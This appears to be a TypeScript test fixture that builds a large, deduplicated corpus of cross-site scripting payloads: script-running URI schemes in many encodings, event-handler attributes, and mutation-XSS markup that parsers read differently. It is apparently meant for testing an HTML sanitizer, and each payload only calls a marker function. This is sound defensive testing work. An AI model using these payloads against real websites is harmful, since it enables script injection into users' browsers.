/*
 * Ways to run a script, made by a grammar: what public collections list (cheat sheets, fixtures of purifiers) is a tag, an
 * attribute, a scheme and an encoding of it, or a context that two parsers read differently. Each calls `RUN` where it works.
 */
const RUN = 'jingduRan()';

/** One address, in the forms that parsers take for it. */
const spelt = (scheme: string): string[] => {
  const [first = '', ...rest] = scheme;
  const tail = rest.join('');
  const half = Math.floor(tail.length / 2);
  const with_ = (inside: string) => first + tail.slice(0, half) + inside + tail.slice(half);
  const coded = (code: (point: number) => string) => [...scheme].map((char) => code(char.codePointAt(0) ?? 0)).join('');
  return [
    scheme,
    [...scheme].map((char, i) => (i % 2 ? char.toUpperCase() : char)).join(''),
    ` ${scheme}`,
    `\u0001\u001f${scheme}`,
    `&#14; ${scheme}`,
    with_('\t'),
    with_('\n'),
    with_('&Tab;'),
    with_('&#x0A;'),
    with_('\u0000'),
    coded((point) => `&#${point};`),
    coded((point) => `&#x${point.toString(16)};`),
    coded((point) => `&#${String(point).padStart(7, '0')}`),
    scheme.replace(':', '&colon;'),
  ];
};
const ADDRESSES = [
  ...spelt('javascript:').map((scheme) => `${scheme}${RUN}`),
  ...spelt('vbscript:').map((scheme) => `${scheme}${RUN}`),
  ...spelt('data:').map((scheme) => `${scheme}text/html,<script>parent.${RUN}</script>`),
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>`,
  `data:text/html;base64,PHNjcmlwdD5wYXJlbnQuamluZ2R1UmFuKCk8L3NjcmlwdD4=`,
  `feed:javascript:${RUN}`,
  `view-source:javascript:${RUN}`,
  'blob:https://evil.example/1',
  'filesystem:https://evil.example/1',
  'file:///etc/passwd',
  '//evil.example/x',
];

/** Where an address may stand: `@` is its place. */
const PLACES = [
  '<a href="@">字</a>',
  "<a href='@' target=_blank>字</a>",
  '<map><area href="@" shape=rect coords=0,0,9,9></map>',
  '<svg><a xlink:href="@"><text x=9 y=9>字</text></a></svg>',
  '<svg><use href="@"></use><image xlink:href="@"></image></svg>',
  '<svg><a><animate attributeName=href values="@"/><text x=9 y=9>字</text></a></svg>',
  '<svg><set attributeName=onmouseover to="@"/><script href="@"></script></svg>',
  '<math><maction actiontype="statusline#@" xlink:href="@">字</maction></math>',
  '<math href="@"><mi>字</mi></math>',
  '<img src="@" srcset="@ 2x" dynsrc="@" lowsrc="@">',
  '<picture><source srcset="@"><img src="@"></picture>',
  '<video src="@" poster="@"></video>',
  '<audio controls><source src="@"><track src="@"></audio>',
  '<iframe src="@"></iframe>',
  '<frameset><frame src="@"></frameset>',
  '<embed src="@">',
  '<object data="@"><param name=movie value="@"></object>',
  '<applet code="@" codebase="@"></applet>',
  '<form action="@"><input type=submit formaction="@" value=字></form>',
  '<button form=f formaction="@">字</button><form id=f></form>',
  '<input type=image src="@">',
  '<isindex action="@" type=image>',
  '<base href="@//">',
  '<link rel=stylesheet href="@"><link rel=import href="@">',
  '<meta http-equiv=refresh content="0;url=@">',
  '<body background="@"><table background="@"><tr><td background="@">字</table>',
  "<p style=\"background:url('@');-moz-binding:url('@');behavior:url('@')\">字</p>",
  '<style>@import "@"; p { background: url("@") }</style><p>字</p>',
  '<blockquote cite="@">字</blockquote><q cite="@">字</q><ins cite="@">字</ins>',
  '<a ping="@" href="https://a.example/">字</a>',
  '<script src="@"></script>',
  '<bgsound src="@"><layer src="@"></layer><xml src="@"></xml>',
];

const EVENTS =
  'abort afterprint animationend animationstart auxclick beforecopy beforeinput beforetoggle beforeunload begin blur bounce cancel canplay change click close contextmenu copy cuechange cut dblclick drag dragend dragenter dragover drop durationchange end ended error finish focus focusin focusout formdata fullscreenchange gotpointercapture hashchange input invalid keydown keypress keyup load loadeddata loadedmetadata loadstart message mousedown mouseenter mouseleave mousemove mouseout mouseover mouseup mousewheel pagehide pageshow paste pause play playing pointercancel pointerdown pointerenter pointermove pointerover pointerrawupdate pointerup popstate progress ratechange repeat reset resize scroll scrollend search securitypolicyviolation seeked seeking select selectionchange selectstart show slotchange start storage submit suspend timeupdate toggle touchend touchmove touchstart transitionend unhandledrejection unload volumechange waiting webkitanimationend wheel'.split(
    ' ',
  );
/** Elements with an attribute of that name: `@` is its place. */
const BEARERS = [
  '<img src=x @>',
  '<p @ tabindex=1 autofocus>字</p>',
  '<a href="https://a.example/" @ id=x>字</a>',
  '<video src=x autoplay @><source @></video>',
  '<svg @><animate @ attributeName=x dur=1s /><rect @ width=9 height=9 /></svg>',
  '<details open @><summary @>字</summary>字</details>',
  '<x-own @ contenteditable>字</x-own>',
];
const handlers = EVENTS.flatMap((event, i) => {
  const forms = [`on${event}="${RUN}"`, `ON${event.toUpperCase()}=${RUN}`, `/on${event}\u000c=\n'${RUN}'`];
  return BEARERS.map((bearer, k) => bearer.replaceAll('@', forms[(i + k) % forms.length] ?? ''));
});

/** Text that is text to one parser and markup to another, closed in each of these ways. */
const RAW = [
  'style',
  'title',
  'textarea',
  'noscript',
  'xmp',
  'iframe',
  'noembed',
  'noframes',
  'plaintext',
  'template',
  'select',
  'option',
];
const FOREIGN = [
  'svg',
  'math',
  'svg><desc',
  'svg><foreignObject',
  'math><mtext',
  'math><mi',
  'math><annotation-xml encoding="text/html"',
  'form><math><mtext></form><form><mglyph',
  'table><svg',
  'select><svg',
  'svg></p',
  'math><mtext><table><mglyph',
];
const BAIT = `<img src=x onerror=${RUN}>`;
const CODED = BAIT.replace('<', '&lt;').replace('>', '&gt;');
const mutations = FOREIGN.flatMap((open) =>
  RAW.flatMap((raw) => [
    `<${open}><${raw}><!--</${raw}>${BAIT}-->`,
    `<${open}><${raw}><a title="</${raw}>${BAIT}">字</a>`,
    `<${open}><${raw}>${CODED}</${raw}></${open.split(/[><\s]/)[0]}>`,
    `<${open}><p><${raw}><a id="</${raw}>${BAIT}"></a></p>`,
  ]),
);

const WHOLE = [
  `<script>${RUN}</script>`,
  `<SCRIPT/x>${RUN}</SCRIPT>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<script\u0020type=module>${RUN}</script >`,
  `<<script>${RUN};//<</script>`,
  `<script>/*</title>*/${RUN}</script>`,
  `<svg><script>&#${RUN.charCodeAt(0)};${RUN.slice(1)}</script></svg>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<iframe srcdoc="&lt;img src=x onerror=parent.${RUN}&gt;"></iframe>`,
  `<p is=x-own onclick=${RUN}>字</p>`,
  `<template shadowrootmode=open>${BAIT}</template>`,
  `<div><template shadowrootmode=open><slot onslotchange=${RUN}></slot></template>字</div>`,
  `<portal src="javascript:${RUN}"></portal>`,
  `<p style="width:expression(${RUN})">字</p>`,
  `<!--[if gte IE 4]>${BAIT}<![endif]-->`,
  `<!--><img src=x onerror=${RUN}>-->`,
  `<!--!> --!><img src=x onerror=${RUN}>`,
  `<![CDATA[><img src=x onerror=${RUN}>]]>`,
  `<?xml-stylesheet href="javascript:${RUN}"?>${BAIT}`,
  `<p id="</p>${BAIT}">字</p>`,
  `<p title='"><img src=x onerror=${RUN}>'>字</p>`,
  `<a href="https://a.example/\u2028" title="\u0060${BAIT}">字</a>`,
  `<form id=f><input name=attributes><input name=childNodes><input name=parentNode></form>${BAIT}`,
  `<img name=body><img name=createElement><img name=implementation>${BAIT}`,
  `<a id=user-content-x href="#user-content-x" onclick=${RUN}>字</a>`,
  `<span data-removal=r1 hidden>${BAIT}</span>`,
  `<p data-embed="video" data-restored="r1">${BAIT}</p>`,
  `<popover id=p popover onbeforetoggle=${RUN}></popover><button popovertarget=p>字</button>`,
  `<button commandfor=x command=show-modal onclick=${RUN}>字</button>`,
  `<table><caption><select><option><table><tr><td>${BAIT}</table></select></table>`,
  `${'<div>'.repeat(600)}${BAIT}`,
  `${'<b>'.repeat(60)}<table>${'<i>'.repeat(60)}${BAIT}`,
];

const addressed = PLACES.flatMap((place) =>
  ADDRESSES.map((address) => place.replaceAll('@', address.replaceAll('"', '&quot;'))),
);

/** Every payload, none twice. */
export const PAYLOADS: readonly string[] = [...new Set([...WHOLE, ...addressed, ...handlers, ...mutations])];
